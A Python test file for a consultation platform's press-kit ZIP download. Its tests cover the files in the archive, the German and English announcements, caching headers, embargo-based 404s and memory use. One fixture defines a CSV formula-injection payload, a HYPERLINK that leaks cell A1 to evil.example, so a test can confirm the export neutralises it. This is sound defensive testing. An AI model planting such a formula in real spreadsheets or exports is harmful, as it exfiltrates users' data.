"""The press kit: one ZIP with the announcement (DE/EN, text and Markdown), the chart PNGs,
the open data (the downloads' very bytes), the snapshot and a README; 404 before the embargo."""

import io
import tracemalloc
import zipfile
from datetime import UTC, datetime, timedelta

import pytest
from results_support import (
    TEXTS,
    announce,
    frozen_world,
    html,
    make_idea,
    publish_past_embargo,
    results_url,
    says,
    snapshot_url,
)
from sqlalchemy import insert

from consult.clock import travel
from consult.extensions import db
from consult.ideas.models import Idea
from consult.jury.freezing import freeze_results, get_snapshot
from consult.projects.models import LabProject
from consult.results import exports, kit, services
from consult.voting.models import Vote

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")'


def kit_url(challenge) -> str:
    return f"/challenges/{challenge.id}/results/press-kit.zip"


@pytest.fixture
def world(app, make_user):
    """The frozen jury world with an online vote (so there is a chart over time) and a
    published idea whose title is a spreadsheet formula."""
    world = frozen_world(make_user)
    voter = make_user(pseudonym="Wählerin")
    db.session.add(
        Vote(
            challenge_id=world.challenge.id,
            idea_id=world.ideas[0].id,
            user_id=voter.id,
            created_at=datetime(2026, 6, 1, 10, 0, tzinfo=UTC),
        )
    )
    db.session.commit()
    world.extra["hostile"] = make_idea(world.challenge, HOSTILE)
    return world


@pytest.fixture
def fixed_clock(monkeypatch):
    # The JSON export says when it was made: the same moment for the kit and the download.
    monkeypatch.setattr(exports, "now", lambda: datetime(2026, 7, 1, 12, 0, tzinfo=UTC))


def open_kit(response) -> zipfile.ZipFile:
    assert response.status_code == 200, response.status_code
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    assert archive.testzip() is None
    return archive


def test_the_kit_holds_every_file_with_the_right_content(world, client, fixed_clock):
    publish_past_embargo(world)
    archive = open_kit(client.get(kit_url(world.challenge)))
    names = set(archive.namelist())
    charts = {"charts/votes-by-day-de.png", "charts/votes-by-day-en.png"}
    expected = {
        "README.txt",
        "announcement-de.txt",
        "announcement-de.md",
        "announcement-en.txt",
        "announcement-en.md",
        "open-data/ideas.csv",
        "open-data/ideas.json",
        "snapshot.json",
    } | charts
    # No districts or categories in this world: those would be one bar each, not drawn.
    assert names == expected
    for name in names:
        if name.startswith("charts/"):
            assert archive.read(name)[:8] == b"\x89PNG\r\n\x1a\n"

    for fmt in ("csv", "json"):
        url = f"/challenges/{world.challenge.id}/results/ideas.{fmt}"
        assert archive.read(f"open-data/ideas.{fmt}") == client.get(url, buffered=True).data
    assert archive.read("snapshot.json") == client.get(snapshot_url(world.challenge)).data

    sha = get_snapshot(world.challenge).sha256
    readme = archive.read("README.txt").decode("utf-8")
    for name in names - {"README.txt"}:
        assert name in readme, name
    assert sha in readme


def test_the_announcement_texts_in_both_languages(world, client):
    publish_past_embargo(world)
    archive = open_kit(client.get(kit_url(world.challenge)))
    sha = get_snapshot(world.challenge).sha256
    url = f"http://localhost{results_url(world.challenge)}"
    winner = world.ideas[1].title  # the highlighted idea (rank 1)
    for locale in ("de", "en"):
        text = archive.read(f"announcement-{locale}.txt").decode("utf-8")
        markdown = archive.read(f"announcement-{locale}.md").decode("utf-8")
        for content in (text, markdown):
            assert TEXTS[f"title_{locale}"] in content
            assert TEXTS[f"lead_{locale}"] in content
            assert winner in content
            assert url in content
            assert sha in content
            assert "https://www.govdata.de/dl-de/by-2-0" in content  # the licence
        assert markdown.startswith(f"# {TEXTS[f'title_{locale}']}\n")
        assert TEXTS[f"body_{locale}"] in markdown  # the Markdown as written
        assert "**" not in text.split("\n", 3)[3].split(winner)[0]  # plain text has no markup
        assert text.startswith(TEXTS[f"title_{locale}"] + "\n===")
    german = archive.read("announcement-de.txt").decode("utf-8")
    assert "Danke an alle, die mitgemacht haben." in german
    assert says("Rank %(rank)d", rank=1) in german


def test_a_winner_that_became_a_lab_project_is_named(world, client):
    publish_past_embargo(world)
    project = LabProject(
        challenge_id=world.challenge.id,
        idea_id=world.ideas[1].id,
        title_de="Trinkbrunnen für alle",
        title_en="Drinking fountains for all",
        status="incubating",
    )
    db.session.add(project)
    db.session.commit()
    archive = open_kit(client.get(kit_url(world.challenge)))
    assert "Trinkbrunnen für alle" in archive.read("announcement-de.md").decode("utf-8")
    assert "Drinking fountains for all" in archive.read("announcement-en.txt").decode("utf-8")


def test_formula_titles_are_neutralised_in_the_kits_csv(world, client):
    publish_past_embargo(world)
    archive = open_kit(client.get(kit_url(world.challenge)))
    csv_text = archive.read("open-data/ideas.csv").decode("utf-8-sig")
    assert "'=HYPERLINK(" in csv_text
    for line in csv_text.splitlines():
        for cell in line.split(","):
            assert not cell.lstrip('"').startswith("=")


def test_markdown_in_an_idea_title_stays_text(app, make_user, client):
    world = frozen_world(make_user, freeze=False)
    world.ideas[1].title = "[Klick](http://evil.example) *fett*"
    db.session.commit()
    freeze_results(world.staff, world.challenge)
    publish_past_embargo(world)
    archive = open_kit(client.get(kit_url(world.challenge)))
    markdown = archive.read("announcement-de.md").decode("utf-8")
    assert r"\[Klick\]\(http://evil\.example\) \*fett\*" in markdown
    assert "[Klick](http://evil.example) *fett*" in archive.read("announcement-de.txt").decode()


def test_headers_attachment_zip_and_public_caching(world, client):
    publish_past_embargo(world)
    response = client.get(kit_url(world.challenge))
    assert response.mimetype == "application/zip"
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="results-{world.challenge.id}-press-kit.zip"'
    )
    assert int(response.headers["Content-Length"]) == len(response.data)
    assert response.cache_control.public
    assert "Set-Cookie" not in response.headers


def test_logged_in_downloads_are_private(world, client, login, make_user):
    publish_past_embargo(world)
    login(make_user(pseudonym="Angemeldet"))
    response = client.get(kit_url(world.challenge))
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "private, no-store"


def test_the_results_page_links_the_kit(world, client):
    publish_past_embargo(world)
    assert f'href="{kit_url(world.challenge)}"' in html(client.get(results_url(world.challenge)))


# --- nothing before its time --------------------------------------------------------------


def test_the_kit_is_404_before_the_embargo_and_there_at_it(world, client):
    announce(world, embargo=timedelta(hours=1))
    response = client.get(kit_url(world.challenge))
    assert response.status_code == 404
    assert b"PK" not in response.data[:2]
    with travel(timedelta(hours=1, seconds=1)):
        assert client.get(kit_url(world.challenge)).status_code == 200


def test_no_kit_for_a_draft_a_withdrawn_or_no_announcement(world, client, login):
    assert client.get(kit_url(world.challenge)).status_code == 404
    announce(world, publish=False)
    with travel(timedelta(days=30)):
        assert client.get(kit_url(world.challenge)).status_code == 404
    assert client.get("/challenges/999999/results/press-kit.zip").status_code == 404
    assert client.get("/challenges/99999999999999999999/results/press-kit.zip").status_code == 404


def test_the_press_office_gets_no_kit_before_the_embargo_either(world, client, login):
    # The kit is for newsrooms: it exists from the embargo on, for everyone alike.
    announce(world, embargo=timedelta(hours=1))
    login(world.extra["press"])
    assert client.get(kit_url(world.challenge)).status_code == 404


def test_posting_is_not_allowed(world, client):
    publish_past_embargo(world)
    assert client.post(kit_url(world.challenge)).status_code == 405


# --- memory -------------------------------------------------------------------------------


def add_ideas(challenge, count: int, start: int = 0) -> None:
    t = datetime(2026, 5, 1, tzinfo=UTC)
    db.session.execute(
        insert(Idea),
        [
            {
                "challenge_id": challenge.id,
                "title": f"Idee Nummer {n} mit einem etwas längeren Titel, ümlaut",
                "language": "de",
                "status": "published",
                "origin": "online",
                "published_at": t,
            }
            for n in range(start, start + count)
        ],
    )
    db.session.commit()


def kit_peak(app, challenge) -> tuple[int, int]:
    """(peak traced memory while building the kit, bytes of open data in it)."""
    announcement = services.get_announcement(challenge)
    with app.test_request_context():
        tracemalloc.start()
        handle = kit.build_press_kit(challenge, announcement)
        _current, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        try:
            assert handle._rolled  # spilled to disk, not held in memory
            archive = zipfile.ZipFile(handle)
            size = sum(archive.getinfo(f"open-data/ideas.{f}").file_size for f in ("csv", "json"))
        finally:
            handle.close()
    return peak, size


def test_building_the_kit_takes_flat_memory_and_spills_to_disk(world, app, monkeypatch):
    """Five times the ideas, about the same peak: the exports go into the ZIP chunk by
    chunk, and past SPOOL_BYTES the ZIP itself is on disk."""
    monkeypatch.setattr(kit, "SPOOL_BYTES", 64 * 1024)
    publish_past_embargo(world)
    add_ideas(world.challenge, 1000)
    small_peak, small_size = kit_peak(app, world.challenge)
    add_ideas(world.challenge, 4000, start=1000)
    large_peak, large_size = kit_peak(app, world.challenge)
    print(f"press kit peak: {small_peak} B for {small_size} B of open data, "
          f"{large_peak} B for {large_size} B")  # fmt: skip
    assert large_size > 4 * small_size
    assert large_peak < 1.5 * small_peak, (small_peak, large_peak)
    assert large_peak < large_size
